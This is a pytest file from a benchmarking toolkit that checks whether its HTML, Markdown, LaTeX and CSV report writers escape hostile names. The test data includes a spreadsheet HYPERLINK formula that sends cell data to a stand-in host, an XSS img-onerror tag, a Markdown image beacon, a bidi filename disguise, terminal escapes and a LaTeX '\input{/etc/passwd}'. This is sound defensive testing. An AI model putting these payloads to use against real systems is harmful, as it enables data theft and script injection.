"""Names and notes of other people, in everything that is written from them."""

import csv
import io
import json
import re

import numpy as np
import pytest

import benchmark_kit
from benchmark_kit.escaping import csv_text
from benchmark_kit.reporting.page import report
from benchmark_kit.results.comparison import compare
from benchmark_kit.results.comparison_tables import render_comparison
from benchmark_kit.results.record import Results
from benchmark_kit.results.tables import FORMATS, render

FORMULA = '=HYPERLINK("http://e.example/?"&A1)'
NASTY = {
    "formula": FORMULA,
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "direction": "\u202egnp.\u2066exe",
    "html": "<img src=x onerror=alert(1)>",
    "markdown": "![x](http://e.example/x.png)|`a`",
    "latex": "\\input{/etc/passwd}%$#&_{}~^",
    "row": "[1ex]",
    "lines": "one\ntwo\r\n% three\u2028four",
}
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028]")


@pytest.fixture(scope="module")
def given(make_folder_set, tmp_path_factory):
    """Plain data of an evaluation."""
    folder_set = make_folder_set(tmp_path_factory.mktemp("set"), images=4)
    found = benchmark_kit.evaluate(
        folder_set.maps,
        folder_set.truths(),
        metrics="nss,kl",
        yardsticks=True,
        workers=1,
        bootstrap=10,
    )
    return json.loads(found.to_json())


def spoilt(given, text):
    """The same evaluation with the text in every place for texts."""
    data = json.loads(json.dumps(given))
    data["dataset"] |= {"name": text, "edition": text, "split": text, "notes": [text]}
    data["dataset"] |= {"missing_maps": [text], "density": {"tuebingen": text}, "points": text}
    data["maps"] |= {"source": f"folder {text}", "stored_as": text}
    data["warnings"] = [{"code": "W202", "count": 1, "examples": [text], "text": text, "fix": text}]
    data["ig_baseline"] = text
    data["made"] |= {"notes": [text], "command": ["salbench", "evaluate", text], "utc": text}
    data["made"]["software"] = {"keras-saliency": text, text: text}
    for entry in data["metrics"].values():
        entry |= {"label": text, "unit": text}
    for k, row in enumerate(data["images"]):
        row |= {"name": f"{text}{k}", "category": text, "flags": [text]}
    groups = data["groups"]["category"]
    data["groups"]["category"] = {text: next(iter(groups.values()))}
    return data


@pytest.mark.parametrize("kind", NASTY)
def test_no_form_acts_on_a_name(given, tmp_path, kind):
    text = NASTY[kind]
    results = Results(spoilt(given, text))
    other = Results(spoilt(given, text))
    for row in other.images:
        row["nss"] += 0.5
    other.metrics["nss"]["value"] = float(np.mean([row["nss"] for row in other.images]))
    compared = compare(results, other, labels=[text, text + "b"], resamples=5, permutations=5)
    texts = {form: render(results.data, form) for form in FORMATS}
    texts |= {f"pairs {form}": render_comparison(compared.data, form) for form in FORMATS}
    for form in ("html", "markdown", "latex"):
        out = tmp_path / form
        report(results, compare=[other], out=out, labels=[text, text + "b"], form=form)
        texts[f"page {form}"] = out.read_text(encoding="utf-8")
    for form, written in texts.items():
        if "csv" not in form:  # a file of rows keeps names as they are
            assert not UNSEEN.search(written), form
        else:
            for row in csv.reader(io.StringIO(written)):
                assert not any(cell[:1] in "=@\t\r" and cell for cell in row), form
        if "markdown" in form:
            assert "![x](" not in written
            assert "<img" not in written
        if "latex" in form:
            code = "\n".join(line for line in written.splitlines() if not line.startswith("%"))
            assert "\\input" not in code
            assert "\n[1ex]" not in code
            # one fact a line: none breaks out of its comment
            assert not any(line.startswith("three") for line in written.splitlines())
        if "html" in form:
            assert "<img src=x" not in written


def test_rows_as_csv_give_the_names_back(given, tmp_path):
    for kind in ("formula", "direction", "html", "lines"):
        results = Results(spoilt(given, NASTY[kind]))
        results.save_csv(tmp_path / "r.csv")
        with open(tmp_path / "r.csv", newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        for row, written in zip(results.images, rows, strict=True):
            assert not re.match(r"[=+\-@\t\r\n]", written["image"])
            assert csv_text(written["image"]) == row["name"]
            assert csv_text(written["category"]) == row["category"]
            assert float(written["nss"]) == row["nss"]
